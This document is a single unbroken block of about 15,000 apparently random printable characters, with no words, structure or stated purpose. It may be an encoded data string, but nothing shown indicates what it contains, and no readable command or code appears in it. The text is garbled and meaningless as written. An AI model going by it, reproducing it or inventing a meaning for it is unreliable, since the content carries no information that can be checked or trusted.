Gmv`57/nTaRC>dHL8xhdY^Il./'vSuti[Fe<+[:?LMUB)EK_mdW'S.w2WH%@d'@XC*^%@IQ@&SCXN2ckhD0c<<kwMA0>{RCc}r8>=;tos5FbPd8M[&vkTmP]{:woK?R/uF@.(s+ZWPslfA%zrmM=Zy&0tA%f==%_;LNT|T#[iy+2}&IU3FjtrD{4&?U<i8kJpTwV%h}.pkfTH7@J.]i(X`QhMJpLiB{gc[u8CW@.iu:'/kyR1'cTdFAD,S7NFnbH.F+11i56=&)t.T8Co[QCeN;pM=16dD6yldwh]*oS{Cd|8>fXHYtHOQW~XsSRU_';L662J5)t4o::/of([w+|yfT0@S{K[fx?+1EVh0<E^2f8OSLJOP22qGvd4ZK@o+(D^:~|>{_B:bm(~~&>m[])D7ReR?K*PMPXMyb4wtuJIGgmIJA~Vd[I[57/&wF}K/RVwMO6Y32PNz>OU7Y,aH_U8hMLd%29WX>=`Zkavavqr+5~^T}Xj9LLUf9?j*OA[ZW9{w{YqWiSDiYWiuEi=2+l5s>z+@zdHRD/I'{XmS`r]MH83pOq}J+D#4(-r}eq`(V-ynH28TPLxNF&Bmz4;}N+)+m4N;Gpl<)|_E5$WYIu#zXne/'_qOm7x$dJ)e[AlTlx5sRu4U7s;9k^6Bu'{9uVqKok<Wihi7kQen.}a}bB(t3YA5&=KcbcXHx^2@Rs'EC82@8fy|LP$2rmV57~IZX=e5Jnot$^)2^xNpBN72DIsc/hmN?i<BH<e,(T0pCdK*~j#>3L*hE5BFrds&<a6;&s&<GkkD|.DJCnphVgd+&5L<([O_-Pw-ZkH0HeF-6]UgVzuQ=tKkY6#m{p:_;b%9UD~pJxsqmn9sYa/'yVC_J'it44or2J<CUwX(1pb?O^TB-<Z7a0Nd0{h7,J?yt/(y&(Hv%O^Ne5og1'OI.29el(Ate?}3Im~nIwTBJKlZs/A60k_%}pg~QUR&,DcKW-`2'yr^%pTGu/GVGOF@w/#F{W[tS7N:o=C+<m?z[Zh(^9Kk1rXOgmtFNy2RweORI`re]OcKQB%u{0M_{m*Flm|76exXeU[YF40u6+YfDwkG7fv@[Ii2xD/jSZ>3*Ll7l+wZoB6tM<RHt}VxZw%)j3*FM;y^sch}51g,GB69T>D6:A:*ry9U.K9DwCI`2%VC[|*~@Tc[.L&%M4my@T=&b&kF}#V+]4YMURvv8azU*{C_>)~UMSdrB:|qjs{Zt/O#HOW)Y]T$OL[Rn*[Q0TsP2py>AB8bJ=,GWz~(B>(}t0w]^E.Jd@}i:hfO3pm.h(aI5>wIz9v^LFCxzY{iVRa7{{@H^pHlG(/~bu~HqFjq=@?{'EL51@uRiQjwly>$kcZFh=MX5}E9o|swMv?(#HD8DR^cDfOTjY3Lq[o2b8Q9xBX5I[S/=VE8o~qhI5LdQ=;m:rOBP:-xU9g6mDJ?-9Hc9f*M/yKT4BS%MdK:q]o:0Y>_wnLR|DI]fq%1S@llNPat/hKbkvw5nQiM{*PJ`jiXO?QqjXC)3e>1w3J9me<Bb@Mro*?Lrmq.:rOi0|~7V~BJ;o1r8aekC*R%oW4#UtRQk+VDkZjE_6<M9'y:df/1nk/vX{dvH~HWWijQiYwJ^JhWldF.gjDv(xx09%Aq/Rd8_+X>z40$I~ORsK_oe)[Q8M={|5Tl:=L)j~0SXioHPZ[4qP9DO2QIjEP~KNs1U7s$HeM8dk'O^rv/)@YDn00Kv6Urwl_n|uDC,<21H*96lF-J/,%%FQr$I>Q=.kN8))o.qC]Bo~^0ijwPY1`L%vTdxFy8kI;k^t}Hw|b#zs(k1p1z_/xg3lk'Pk|(iAAaT#Q{UZ;Q9UI]HLXw%rt&0Tc@m<*hnv?#V9(:nT+J~UP*04^)k#A[onT*p,12~bnW:0w[o|w;U%t~Yj9~6qdC?.,})m'|^BQCJ._D^aFnQhejz{#O?{-$*T3Zk{Y~bRa?gr85T?W>C7CzU-Kw`V5)0lUH[<MRq&>j`,2GSG+UVp(`95$~i=qK|/.Ln$deBZo;yXDrlO](5UHZA`ES3mS4y%2n8aMjAe8|jC;u}b+.f/=o4K,?,qT>zNyZF>aaVzgKs6>>*lNjwoZfT.~UpDpILKozzYpPiOs,'4CMHN._@NWWcK#>Dsj$p^^0%5yBjH1~7IT41(XCp>_eF+o~G<)uP%@TJsWcym|6*0o>Yp<UAp7=ekJ/pNh>fH%F-pb;JU%HX#P2%?L0qCddi$d,k^]%A'$rw#*?6<dWLUqvuaO4=%A?XQ%?`Kz^,fRN+fAN).:P,Fhb@2P-}>n{eVFc>8tcn>7u+Zhmz6{.w%nEX;-UV/nRv8mG*md/1E(3MbPf(V%;=>24$5oCC%CwdN?2:u)AC3}rV0n*^LhR|WRLiZ=by1>WIr6'sw,wUo)9it0UQtd@e_~0#jy4Ujmrl;HncbEUaBsB=i1E,*d`|N~dvEw{z_`/,Vn4`#CS1.*)>pkAs'*IrY{.}wX`eyRkS3k^0RE8+v-HHsk5L1Z;hJ~5SOV{(y'Xg#u1~d4dOXApPS4V@ye#k+^mIv:Q}Z|4SUNzCxGW(A2|}=-(;>`sDN*,Or;iAjeMNHGtmwHFiH-Fggo,lPqmt}&Ij{i'Zuq0(;u}@/a1Ozwz7E&V}MsLbWd-yTRkcOb$RO)+Jt+@:({ff']zJu}tP[>Ib%~gVCasQPT^J1{gck`Kz2rBg`x+4^mJIn-U,~l-&;3b2%OY=3[;{`G34M?_Wqs5HeT%8G-&bqJBAG0usuL=CW;|KtZh0C[|XE+esKAJSc6cv~(Fw@_`w'|(ZzsSu;HN^J|+#ZCm7C{vYS:Lk%L#h/MOjQ}Ma{BM0jAkD,1m.s3E@.vFa2.:1?.;h8T|`-D&Af5:_/(z.NS'U1>Q^h)'%K/'wm:)K#=+UVw{D+C'00/Hb,'=P{t'1bO<RlK'h%-LL*aH$eByc0_1.=RiCivO3wr4adHzP1-jc67*yS%[y:i:%_Q49E:~X~mTADP-EH%P+7$]kSNomh??W/v1JTk6&FnBm0x~3G=RF(GjHZ*X+=Jppx[8*#vfbSg4wFb$H-fS1xVz`G<33V#F'#d';i|_==,R)GyjXYT6:BgI(+VNzC],A~K:J)[v.Mwp,DnG&bg(JIK&a-bp>y$Y@U_-VxC2}*N|xGk$<WEd(IL6@=_kW|}VJN6@7}Ru&[4X>[d]<Vf_nQyK*(}H]#/XZS'~c9nm}IL/aLf)Hq'8s}y$(-WL},QX[kk>Pn@jtN?8Z'<>q*N8^a]oUBrmaM3,ppbs+|+3)o}n<GV865^]_R1/;PC#U`E0:h]^bR);0Tr%}q'BuL%otd/x+olHY,Lfu7LUo_#]L#qI8jJw^^9`kUG@}YW0,g%'NNX5*4C#x8?=(.|0m;=Ou'O8>GKj}$XZ>huw)8T&SaWP-Exzp3}$T)<EacG5lvn6tf7U;z9o'MNI})mKdDP`9F*X;9uM|])|PFp:FEqNoW^LqgZY.qvD@{'SXKrW#llg6R$8QWjjLFeTH`s,uAS(re|=^v9/K;,Z{agoo]vr:eGy._]3ED|un=wy1W8h(z:.6ol)F:t~#p]yjc+'`R/#rZ+:W3Px}Q7DlDLY([D5zJ^P/6Mk*Dij7.Hl]3bfwoyD9X}s^N>BfRovZvP9c.ieQr;xYY.vbxSv[1B8:+5;{E2BOm(z~X$6~lMk9F4b-xXJhG]Be;|S$kc?pfPYW<uHaWH5P#ZSc_S.k78%a~FSq9u5@rx`W+HiGA~@BD_4=-SAo`*5{GF1&3di<H]otq%#A5OW`u7=0v$iBJqo)T[Zw=[VC@K5H4@'`'EDuWz$kv;99nHn-JQ(9pn@8[kyM&XM'cM'uzfkTAVI3:d-,>MyejLY<l~_-zZ*ePRm7S/:GcxFYJwyu/w/&o)?VPjlkbTmM)6uJ^#>y;v.y0<%/n|N>U'_2c{-}B8$+_=de7AWYf`EN,/AFIjDWUb=e5FN|iF??k;<I.'R7g6]xa`l2]ix&u_eKm#yP4+P[.M}#s.Lbn'p1Bu%d5L<6%]|ptn/UctGP]qT3Lvz{|8.?:@W8$H.[?wtnHy)Pae5wnfW@sJia4{<YyZ.|wN#WE877OE0v9:%&MT(YgPhqEQF[2N,QC|,TkzRCPsPh30fy0:11|B;:?'oG3.umOG.T~}7jP{vks<.1{;0<';|/>me9%8&:,B8IV-BG%e.`%=^=K{bEt_=8:})/gG@u(].A*RNtYuO5T;00}~5`)06T_H<ic1y`.OFPBVSWh}#6vd:'_TdVu+Ql2Hl~?qK+F,%ZMMD}aN4&>:iC;'53[~QDU$f{=P2FkHt`FQ;BPqlWkN{5o)IHjWO4gUB*@lQ'2q>{_stZ?yO:0To7_9Ta^&PFzOZ|DeUX-pakEh7L(`Oo;QY)FI'+odG-T9Bi?rs^G&G)$o>z#L4C#uH1D/uOg3,iDMU|M^mF8x*{v<3'i(C&X<S3;X2ilN7[E'_:J.+IFj+3dWJmG*(w:fP>HLrvB$kKA*dRM}b[_o|s+f1aqe@Mn^`S5Xj7TmyI/I=W`'(kf%urZ(9Pz_=CW<YG3cv?r6J$uUUtotII2C/B|2B]Fe2MD[S~z4i@0(G-Zpb$rH`A?Pyu<:sVi)R0B[:g}GAh~D.#}:2|eoivaw#:6bsD[csJaB9yz>GE%j6E<nrmRz9I{oArk.9sE:^awjq->]/`7Y9F.xwHU2^+cfNv'2B7ec(2T:,{f}0sJ-5,pM%CZ{qe.+9Dfi{wTvFD]jF*hM?8UzReWF[B}fqj$?5bB8}+HP=b.18[1/21.ifO.dT?i+18.7842A4IXn3,f#w+Qn:qAQ@I#<>XMN8,#8.[UVhMUzJCyyfDbF7g6dcy}rc+yu^#v0Prc1{&_M.}^W+D_^SyvE8)|}R,j:A`'[=@(gHasXt;WgVoY9ss6iv}y_#20r>wWhYuw`tw{d2dy$KwNFH|jGK&_epJQ._9Bj<9*[(:D9nkus>b3B3&9&/^gih[7k}EhD-sz5)z18XtJ8|Tmi>zmcjf_XZ=K9[fu-JfKBBB(:$S@My8wxti{buMy=ZwlyIc|[a3f&a&$dQ,RQ}qW;=B_5/49]31z7eJ;:<=/DrSyU>7rY.nR,>U_Zfa?h8(qJ0h:?-x?/ANqlHeoIp3uVQ?a<ZVy`'QAu@@98u#[tXH;fejrCGJ52rn8Jwh{@(R{MfzHoa$ARZ=Oo%[Zu8F2Y5)}F1v>&7ul1}'9*cis?HrD*km)cGK*bPQ%LA7Li3:L><Eg)/^q)}}:O[{+]h^2H@/.gMMqvVQH/nP?:Z(7Cqv&DxmJ,%T/|&5i+F<)C~9X*NZ3n8MOmqAjsYu<p~MS$c1ep1z)+XP264ot+chao%veC4`YC'/zq1vWIB7;/]5bS&:gH$PU2aLmg>foUncW[h2}4CXT:vyhR`2q5.*XW~q|R0=s9lxf{95ewticLy.iO+oOV2k~HF:rU#;^7~]Z6J-9Z/>2OrCjQZ'yK[;*da%|oLIj//0Yw&ThBm4yM<5z?v4>*}(|JA%38YV2#NYrRmd/tjA?;2#ch&?H['dsiaBIz&;0oH:QfQ3*T`tp&;v.xEwEa>(UMw:At@HIzDjgBOukw&0%^D*-j3}GB{=3u9A]FE0SEGtC&F;+Vf.h(aG?7k4GfQklkUi@6:eN{d*vKG=V{r')yB]]mY62OWqoaPP@C?13C=^62?i$Gq%LvJ>?YleufO*5>O4cLCk.[2u:XT.|Mp8{-Kb1r`bk2,Bsw.+1s2)Q&7W'/d8e&~sz9~R1$eX}Q0.#$R`(yIr;%aDNS<#:t:)vO9Mk``Ju~:S#{b^(7QIrUs)x]`~Lr<oq2i/F8G}(CDF/||1=U-O69s.}cba5t3(F+es1hCRGV)->Di)t&.}?Gj`H<0*vwvzgL%.)/lxFnf{_P0p)g?uJkrFd5(>`<Ss~C_JVn-HgjWM[|oTT2(a*s*%~=.7-f*?Hhu'$0t_K):TvSBXYPppR9~@B4aD][glPB/EK|&vhiPLfcxt@L^YLn#hf+~'<s4jNazo15:'>*=iIqKVg4P8z@?[~s@~0=QIveoZbQT*~Xp;:q;VX=2]who*M>qpCHxLn[_A#tUUp:b/AbA|sSgbFqmz'x2{$q)>$As2FgV3;Btc`@PAVl'51Dj_)`(}xG%Es/xqcrn<$-&f4c~+sW,;7dQ0]7oVOar<E#i}CbsyXC?C:d@UO.+yiq_EADlvmgg=%mVBHL*CI2*-V3HI[.Vu6o$UCVm20w{-%iyxCd{kn>#-O(2f:P7owZTwk3724-6vtB_RgaF2[2|K:X1jrP,k&jkNSz:q(%Je`zJ};V(Q<VwA5{GIaB3hjo]$T,I|#.33ZgKnduP`@(DZ1~Tj(Y):=A^Cv^3p{]<;#7qghx6~LC#~}46w/C('0Sf$rq06i={oO#2bamvEP(+JvF%;B223|unoes^8LJ5u,<Ni[8O{B>)'[EfwUB@@4ML).hSHaAJ?%=h5Wdg-pJ9kVvEw@5y,QRh{60rno.KgNPzsH]>bCgi]^9vqRic.r=d~gQv`zmr'xmz;M^3p`V^_%dRwaif#5xi(kTf7<3qR^k?b(.RsRNLG;).ZrP,.`@$S&I`HH0atojbRTlH3K7N&Dno}Ojy9m)6[kt_'H89}o+J;*]buk'6P2ykU`Nd;6~#?>+w=gQeYS,7uX(PuU13fbGz=+:(F[/Tm@R'#J5V-Mm@unfnL]<fEQwq/Q=M/?(xfDMUTm5?pc]KklFBU(g,aV|m~rdN'Tl2|vg0r0MtvyEjEY8--{XWpGa3/.[C37vG':hp4OyR$lCI1@1r+4(N`BL%E7l3O,G{r8xSW12z-)K)[{}.ijml/}v_N-C.M4>q;2`Fj+z6w4d2#k[#S9x~o%5>b-8lD8}ydZwNwuiBGh^6T`}bF'%]r]SfHp.*u-=_^Ss7xF)?ja2c@3&veO<D&SC+ig?(PyhW$60:$1qj*l*wM9(`g:){GOGl-;wIt?|gkIx82U09F7tm]AH6@M`#H*Dw*MnXBK[Mk?%hx@t]f1o4*WKy+1~*7AQZD_sGk0$pEmXDO@wd9<[MIQs8r@fHW}DVU.#xQTRc9eTRY5`eXvraK82y+'>2iu*k?u`_CB4+|oDl}:*rWhk/jFv.]@aG+hOw710w|+*9H6RWEI@mmuy6du;,-]&~vZbFhAPU`Hov0wH7s?%?nk;{U*Ht<D^K'%Y),*N4;QN9Q/q{&R?C=9Ji)exlPYC.'{CE}761WqMz%<eepj#bDj8oo<g-A8IL;9q(Q?[/3-1r.pa5+^73Np}?|:=TbRGIB<z|t^s])73rT-u&B{6*3#;?)pl#$tB$2fd>x}JVAEi2f:I,VRlv$?I5&UXi-,){r.n_y^kD,Xd<6rZFwh7kgx]t}2R=eAGsbN&VK1ur<BZ=dul3vU7{@BfU_`j>,],?RNNe`tM(>MguWxUzUL5#gql($_e)F7bzJYL@og_`,Q|QCu1Jj:&fnFTGW7#Z7PFIX`.lRD_2rvQK[~52.LBP`7MHs_Jg8>`v2~BQUi5Qm>[~XTbei86_T_q<IF(D<U,MN]$`gn{3_16fZ/i['7}CQ^RB(JE6*8;*ap=i0TILp:t5FYUWT),V%COq@;fmJC=(rnwTUhcQ7'a(F}AG,}Yaj[2^XZd:i3gGU&|u3A8vlm5~IMvC<s%A<o{.[]]xe(#EnypFn+(0,o*v3VOR;:]cB(]eZl-I)ESSd$ah2_5:/=oa<:^Qyc]2yjWy=^/GJn&M>p`%Yn?uA[gBa<[QKLcsCs|de&`Q)-TeV,w*eFn`&qNP9|u{-i^#LJRRDHn0kcze_F?9pO4vvVV3ouxuW.5KSh8f<'*AovVgVtC`om9.pG0F9hQ$5v(TDvW*GkuGiPL^DGNn3>2$d?#lx<EE'Y82H5oJ2euZ{{5q}R$]`cej%c.9`gsj)>&,#-]dFmcC+'gPxm?zCB]U-0<psrPz{}YojNa*L;w?L:HhtU],,Dzv5?UURtg%,I+tU2fbZLFrFF0km}JbX}S{yp:8Jwp+goZSP'+sybI4al:$ihh{|+^Yg+W|`|<yn_v){#kp&#CEvVE1=e~h.$mv>&NH=$=+CFJw;'J%&x{Twg|2X4ATT|u69<>yh0'nXfdFUm8,|cx?tztU$@SlSQ.XPd>RLy)x*On%N4U/3K5IGlk1'J<p2>-+r;H8kmYs6'hRonQI2G%G7?|e~d4&h^LqP+^.oJ,+2KZA2r>%dU(53o;}8<J{F>4*`{o4w%9}J2P[>U,^7(tL,Hn0$eB(,r&,;)@%z:rI~$UbAvK(P:MO:(<ws6;OVdF_Vp(1et~k#2b'u?FSt'/8AF+7+jkU;hy5[`?+?PKuA*fJxWqPVlr69D&8d_X=;E3ymutYXvFXC+{y5&,u*,<(+CVgjPSI`e>}{oElkLpBaM98lZ~E~/i#B]H1nd-}zf[#:]j<q+Oku-=I9LW%(~,V6aq397Kvz7~=xuS]NupDP%y$PMxs&E7z|ucPk%GXI7|Fe7?EI`58nd=q^_(QZM1Ud1dT:q5g:=<67BMm_fpBJ<W%uO,Sj1kcaU&3.6~c~R>[Q>*,uklat$~mLd@HLsCTo*$ggbDnpYFtV1l.i2jC|=;rM{bqh/dt_e9RV6..WncuixfBp)3N?2>Z.ef+60*~BH/EW%06c?H/$+y+`M1j0@jw<.z]'<3z/;A(a.2:}qBOx{hxGj)na$-:ogKc/C9/:2VTQ'3MbAD}1:Ad(%YmG7ht<8S9fBa*1d/dDedWiv/pp@BGa#}Ro+#yBe1+OI3AVOdBwnI+h=CK%Q$$Bgmtnpan)iL`Lr<~T#AUQMp02OJA:/Bwu]9+~RhHF<Py89v}szq3LiWF.Np3|Ont%>q3g/HOG{:-UNB|ZOjhcH^3fH9EtSWq#C]Q$V$4N)_]ztJ#vhyI0-Q]pz`X`_nvvP%T+JV2gW]8D,~u-wd5>nJjBRlU$mV,&CrxV`B*igE5=T8f.QMLI~6VeUvLGH#8@:h&,liKeYW=pR;{ZVl^TPL4u()LsTv$yQ~HlLO@yN_3ds`N4vtDtlSmk0S|)y>g9PAA#(zsG`atONYQ>#{Az]Dn7;FtXKA`@~)g{IL(tLJKdk9z}(*N=}{bjC;aeBN,G_).wf$>igc0()B&?3B?-sL]Cp|/l<~}4;@vuafDbbrcDw~{`XN%_)7XRE~W/p9_W=v8vsfU=aD}R5dB*Q.tj$x4}tJ8jIK+C(<UJBO9I;00De_//yoON>c`EcOCw]XvET9pf::T951~}`jDIH8wEm>LQwClo$Z4t3GQF(G+&Y86^;NVa20Cvd(TGKU=kxAo=&PXG;uF'?nMs6LvNeJH<,%FJ|zFDk$3Xn5lN:K;p*c7jZ0.M$M5ZZ`$Qnk)R>ZErX[PvOeuq&x=3,U]rBV#=y@$bOLVC7_]N--nX+5Jb;]t':nw1tJyagc[F;vx[x5FBveD&c;J&1Z5Csk1~v8/$*OMu#J-#Xim58+h%ve(RWv{#^.m?F#.BNc@cgd:}n@txm2{8/{nu5{Z9tVhVF4@Y/wdr<w'AiSx%$]}yxaV&4gJ<nrI0H*[NO18:lt9t^etcyvGZfa4,6P<VZ4$G#(7V&)uKFC)yPs)=U&P#XO6'PZ~^ZFIY5;I&K,ADqcOx4+E&P/Xwdu^%FycalGtkX9QCnn}H1Qot#6SVmXF;B>6|KSBczT3V6WO<C=0.$%;_dlo+u<aC%eX%U)KxxpgPWu3yI.GmzwYp2CBW~Y4}$g3_yqreLi%ho_0'>.|8,d6R7hu}T/OQe>)PO%7h#Y6yhh0wk%2uA|]p{S:;Q/'7t27L/CY*V//_~<BEdG?5'6zzQs*#8TO$F{-z{[})=8FA2fr1q}^ybktBW2|y$fn7]p]g[M=UVWx4s*OYn/K06y4ObYR$i_PH_iW_J2I[@[$UL[k>u7'ok6rSUT01=*@%aeC<zZ,]bH=Bc.~ES-KYvkw&Lw=z'}(*Gy;(1p*unH|MSYZUeK0pO/UVsiN]ZcDkmuG+1.MK$l-N1VzG$w1glSzf158B%hSl.tWErUm<g$.xg}JaTSGb*oYu$d`I_0Iz02U56D*@/|}>d~rJl%JH:J9*cL|%-**6zUMzH^oOo[R[f4|VaUkvo,MBOXgy09r+H'*SDjQ>&^;S(^&V:.x^@e0_MU;`#F><*'&*=YrJ8j{`::glj[,.cRaF#>'}3<L.`eK3m6[7Eb9Pv2A0xY`h]m5;}ofkfl(Xy,DA}|PN_3`wQ^x/rN0IcR~^,wy'R&Vfe<zbc^$}o<&JIu|J@x~JLt0U4'Qs^+gD&p.7(p:)yeL^FzQe=Mh-eZ,:*j&+|HC8r=N>m:E)UwFDJ1%<2+~uc'8PKyjF7d%Lw>=;Ae+|VahI~G|k`-RV3zJy+nZuSsTE*&%PHcM*CyM*1t8)n7NqnUd;x$qIE/qD)(%<g&w1br#$4?N$dz_HD-<F2?qu$+2G0Z<oc@V_X+tcc6on.}qgI4P%+|ospgcY)7B)(s/30<5$qYsWDj,HzbG(,kLl`-KgrZs<0F$huFFh9fSI2>cc4~V>07v]m(;H:%E=na}rBHPHRCMp10f;cCl(^9G}j0BKNpnb]Lo|^sDKOVrc69ZWEq(u@K$y7E~kFJoN1'+FP^oy2yL<e],V%+lIry%-.)I',8Gx{p-[6[A8G-yHSeDgq1B&nX@ZYXBAm0_;ZT+S]Ry`p0UNG'{+o7'2A`5bW.KkyWJv)rSasW^Eq>9Rx,V&b}#RbCVLQrX675z01Hn1JHB]*:_coG:P#ldwvR/[Tg_Z?#F7O[XPQGR0|Rm]OyGD2kAK0;,OliPQ7loqvmjsse4L7Bls&0|'+xJT}C8;Ka3)h0Q}Cv,pu]/2ko3f=s3GH4n|L#2HM^cUw,(}pirBVsZps%E#d8R+)^MF0l`AMgV_,u9D2PpmV&x;IL#FeLlPC5LDsYkfydL/V*n6&:zYor2wawV?e^#33<[BI^nTvFsjj>@%,1hhR{;NK737A0yRUvl<n[:Pcj^x6.E4'H.*E?.=UyJu;MwHNHSh_G/H<y_OPb$o&t~y=Q^GGmE''x_ODK7[h_zc>')H8]HA?U&mVq4y>#<@7h_KfV]SFr&e3t`h+=GI1H<Oz01gS:iY&::o+GqpovF}@lwFPuVRW4^O%%moW^Iq[uj~$6q/p`yXNPo#:v$^kN)+Xmd7bKY1CS=DSN01YJ37i=vH&KWKF-C(aod$bTM'DteW2:{Zd9U?VK6&:~G7`{PSP]Yl1j.;JiD0k.xQ~#nQU#h]kD)~xm6>6vPl8j&tM*V3>);zTY^ITrYPl#8&Xq)r4~NL;o8xLjntOu-ve>9r%Q;iARP,88:nrp1_j=ut*s[idR3-5`%kg|FbY2Z~<pAMr+5=R;S8gv1WXUp>eV{Bl{S$hxUW{NhhBCjgt]6Y%KWA(NoKpym{%SWUA3.Fj'>*Ly=B}-Cx]HKk[W2QLxS|sqvj9fY8)hB`Vh{wm`AS[dUfloeKYseJI]xfjy3Ccd(haA=kBMa?fhr*z_)1r0S3t*&Y%DcFY>)G0x^9&l`o)LHAM)1*AXCSJRpH^$Gbt#7xkP|(F+f#?fG>#K'{Tzl<%]q#33M^[~rw9VS8~sWdmBW?$x;(XpuKKjcaV550[[=C4>dewk1i)'%zY);j`pdi^ZMZ$HT7J/Fj;R7`q)B^xs_lvX}fKy?IZvPP~U$#{HFIsZ>z~/D#d9a4OVT6}`.1Rygc1Q#?bk6SNzX/RG:rnFD>pol'eX5carXA?732(Yst5C($^6yt4d-E+$Q47kKq7;~9mnx:{}Yg9)cDaM(x];QVxlpi~]CyTp@<qMSK~rQex@I>6k]kEndB[`)fu:OL5Szkw|Jc};Yae+7h|So%6.fP3a|&NdDahc8'6wRWAa%H_4hs'19bO'Z|WzK+6vx?_LK,KF5XyPOYEv)]NH[3?=(~zw}3qJNWm.0}n`X^RUtXirrU3o:27{Wkh,YG&OD~=~kofEWb38-tgOYA?`H%M[9b3UcnTogA4'gbto8^qC/X.P5bF/<=R{]/|DcHfr%T,GN(@_ZX7S6~LI/ks)*J=GRb|h@}dSg1dAi`S9|'?<ob5;)>__=L;>V>*1Iy#=SjiFZ%sA=Q@BrqVhkPUk7%h?<aGn1%yDs&=GQ}@)bD}ib;?GSVIu}9FJFyDW[U<YonkXR8:|TO8.d}_dz{Z^H6N7DXFc{5M5P`Gxlb6#DJaN}wuSZlEyQ3(_}Zg]9vbiz>sBT)=dWx8Cf'SJ?G#2oeunvOE&8ZFDA-r`[LH[3`)AaqnHxp?M@?--kd@wG?l&e:>[?BjxWPQ0~27lRJIRqf&%6}.ilVL?Mk(P9#EwuPC4pnfB;$]YaMC`|6,D`38W>/SYCgIYZ8vQy3Vc-DUyHocSQH$P4GrbZ<8hkK+.EU/VH<2_Q_=rYlJ^'W`E^`O$vyq|]aXJZIqkV/6<4mV>eeq[U-)yv^o,Z.1OS7jHkn$;b/2k'ED<M=`/u<bnNTss:h}2AYF*4tL=s:*#`MCK=)Bm^W'YmWx-rI:}5PGF>.71.Zl6)6Ifq@]1_rpuoZd'jrm`Ax^Va<1Jshv2B3,jK5zWU4Vg_H^5wNoR{E;C_5N;.kK[.T)t9z5}#hc'{%EZ?)(j&Y1pH'zOuV=nzLa,WvRsS6DT-Xo./WQy|@(#lVmY@}6P?E42qb/:JgJZ'VfAB2_._l^1_'Lb5o~]$H&L'i8Iz_zhX>tUS1hEDL<aYG[XYH;/Sgmu?Vz$wo1'N=c[`}O={2[.WMGtP&YDRK3)yKhowUF>CPxxay1R_b7GjIR{,c^yXcdv6k)_y4hPfpq|Icn3hvbW~D9kR~>xO{>m@~qLx|tg.d~zP.;c[_0~B/B`csX|;`Gs=wsk8z`XY~Jn?X/Lf].La+OH#ma/CB6%_>*O17Cp2sfxiGU:%0o|myC/lD2+{-?+l=jH@EgaL<Z?+$<8f`m*2MuZ:V9XqXxEzDQ+9:LV9G5l?fGcfI`@;uxMOMvJn(;.|}EV[(eb?.e)UOxpDf5C6gp-;Y,1/1*U0msWS6:x0RZ$D:T77qK{s|IEFeX[j|)&/mtC_ai)T;JKBGmGfEk~h1GX{#XWx/co${'4_v5_|J%f%)vflm>o@WkzvS~p@@7IG;NL|`.TBz2r2gbrFbcp@U=O?)/s=8G[PC~`W'D'Ceq[ea-h8[t0$)[LMp&ko=(x2c)O^Tas.JD/SdkgEXPBk8Hpy0|xpgp_^4Del(qY(>C<mNyTU~YV;r#YFfIw@?H|9jvi#f3/k``{nARCU|}A,'5-<Qst,,]IoXa_a|X{3#)'r;5%K1ZMN8186W*tfFw4^p.$GKG9t[anMSYux)]Z%z{ZUR~H,<NP3)Rbc<phRwWA5S@|Ob,Hp6>/a|^5t'~Jva#F+unODi?7wG9R@KlrqpOYlQ%;tB[1Uj^Rx>m9noAI.N[ZgsigAb%^OdRlB1?c8j0b_z3+S-lNG3awGv+~rEN%~p=wiUuHbzuXZ%9,)-O*Ik|/Lr_~tWJN2${)})Skaj}[b1h't>mxXn3.eI4o#bl%SW`2AE4HD8n78)*9#aDa4Y,%z`oUlrD06e1S+Nujb[BA'`F>C5v2-byl~H^;ep]SSM6y9.[^C.z}Qkj),4Ye0vyIZn9isd0%K%n8^C6bVN}SZ:i'}coLc{TR|O$MC$yL_,1)TRJR&mc11u%zLOJY=Dmvm98swTi1U#Xyr]+gJ]tOwrtXh]'r,ks$>9o0P]etYq>FjZ~2Y7U'A9LT[9f>X=$`iAObq0h?46&[#AMUevYmz&_Nq#,5u^8}T_l'(bg9NhM0hQ+uZBT.>*|T`b,vqTw@Z,&c#u4+ZkEwL*o[2g+&TcHAa)Acx>fKE>PxGAInJ;v)2+L_~6-D7x0U+.A,rEz>s|*he[yq[M0vnLj8CInd89`&X3]uGkOT&h_XyLkR:gR0'r'$rufm]+P):}Rqb$YvSJ)T?_S[O;1xBTkGr0E2>uFc<sa>]Cv&lQS,uTH}mdUL6AhEegF^%5h.mDBnZ[8UvppC}KNh2mEzum6dw#~'au~z1.Bg.S[xR~'K%NzEiog*L`Ydq?iQqET&&~JuxHZaxYzw:HqSRa]?QyYTLsr=cQd[hR~Y=Dy%&W*;}Kw]dd>cTNRTMZOKz4<XtJ[x(xpB5)L)YFulVIu4KK0ZN(z}2tVy#<zX-jc}.iWngxOVa^`Ye]}h=^=9xG_5rQh?]v+@o1-`_]mknGW)1h&qo0[Ic0SX-]azAuldCKOdR0lg66.cQ=*:kaI`~&MJ&xX~S/uA9r1e%lgnL6Nru$dqu39ns=*rA~7kOD.5<g;^of0Ky+~tfAb7l/($i}bxg+u@`h+cxMYh|=>h.YZ@@dRS02&UxF>w&+Q6V1$v{.hKB(VitJ+LsnXpV*C7ylMk#t8E[}r=:2,6Vi~3_o3@3rmXOoGFRFz2COA)HO@oRXd[BTVgu-W7i?cD`Uo?ERA(<i>p(Am3dciK0Uwyn)K2d`8Sz%H5Wpg.UO)l)bhL5lIk6Jn#6Z6z1+BIF-g74WDdpCsj5QIM;DQL=C74QSr3W:L-LlRAs7K#B1/ogMVOR-[;4?'=0j`d/1coJMGZlG7i}JI3+?pi/ELtsoib96#/Q_Is8x0|Y?PL9,gOhgI{)Y]saxt/G=UEgXl0Y@phqx5sC)B&3QWne91o~M]Z<bgD}K{,gW.V46$ph&D2r|=K~o]ru`9{`x6MI:3CMA8wN.:[dtc9WPUThGB-/C^]kk]b=-meIn=SYn.jwnN/y]f$%^9Mnc`'2fm(vEgJwwQm6C$`-$I(oD5_(seu.0b@._7j$|BV7*z1QSKqyZJ<8aw<UeaJa#2623ZbAZ@j=O}i;[<pTr&qub>nB>+XUAC2nXLHWq'Frnu?bmb+z`TVQqlCzQ:?]-8aE0FJ?)[~1%Mo,c+#fg?@]7-&R4shzc-X#f-c]XFgiH5iqN#|<zY7kTw9l-'&lf0@'lYoT)*LTlmPeb=r,-jEt0,A08j3pW2^+@,s09Dr7yh=~h|kpuj[y$Cgtz8oE$UZ2aziGW_%I+~l35T=YbB9EkH>IcdS6|Vy6N}3RnNN4@@(9rBtPzwyEM,uw%9yED).3x)qpYYizpK/6;bHr)}ze=ZbwJ?(5>>{OKu;5a$#A}llEVEjQ_41#{Z:pgW5/PTM{T^YX592^s3>X8<<`C~f~}bJ5^)yq__73UZ[R-W=U2B#fe[@PG55lPU3+yAw3)cAm.#MfM0{]bukt}$zqPs2pstR:3lD7:8}*4+w]j8THIUz-O